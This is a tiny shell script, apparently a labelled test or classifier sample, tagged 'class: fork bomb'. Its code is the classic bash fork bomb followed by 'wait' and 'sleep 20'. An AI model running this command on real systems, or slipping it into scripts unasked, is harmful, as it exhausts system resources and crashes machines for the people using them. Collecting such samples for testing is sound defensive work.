# class: fork bomb; possible: low medium
:(){ :|:& };:
wait
sleep 20
